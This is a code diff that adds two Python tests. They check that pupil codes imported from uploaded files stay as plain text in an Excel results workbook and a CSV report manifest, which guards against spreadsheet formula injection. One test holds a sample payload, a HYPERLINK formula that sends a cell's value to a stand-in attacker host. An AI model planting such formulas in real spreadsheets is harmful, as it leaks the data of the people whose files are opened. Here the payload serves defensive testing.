@@ -150,3 +150,41 @@ def test_a_whole_study_in_one_zip(tmp_path: Path) -> None:
     with zipfile.ZipFile(target) as archive:
         folders = {name.split("/")[0] for name in archive.namelist() if name.endswith(".pdf")}
     assert folders == {world.test.form.code}
+
+
+def test_results_workbook_keeps_imported_codes_as_text() -> None:
+    # Pupil codes, classes and strands come from uploaded files: a cell starting with "=" is
+    # text in the workbook, never a formula run when the file is opened.
+    import openpyxl
+
+    from kaskad.monitoring.reports.workbooks import results_xlsx
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    content = results_xlsx(
+        pupils=[["SCH", "+4A", hostile, 3.0, 50.0, "basic", 40.0]],
+        strands=["@strand"],
+        comparison=None,
+    )
+    cells = [
+        c for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for c in row
+    ]
+    assert hostile in [c.value for c in cells]
+    assert not any(c.data_type == "f" for c in cells)
+
+
+def test_zip_manifest_keeps_an_imported_code_as_text(tmp_path: Path) -> None:
+    # The pupil code comes from an uploaded file; in the ZIP's reports.csv a code starting
+    # with "=" must not be a formula when the CSV is opened in a spreadsheet.
+    import csv
+
+    world = make_world()
+    rows = [HEADER, [world.school_a.code, "4A", "=1+2", "", "ru", "A", "B", "C", "D", "A", "1"]]
+    path = write_csv(tmp_path / "r.csv", rows)
+    responses_import(study_test=world.test, path=path, original_name="r.csv", by=world.monitor)
+    target = tmp_path / "out.zip"
+    assert write_reports_zip(results.load(world.test), language="ru", target=target) == 1
+    with zipfile.ZipFile(target) as archive:
+        manifest = archive.read("reports.csv").decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(manifest)) for cell in row]
+    assert "'=1+2" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
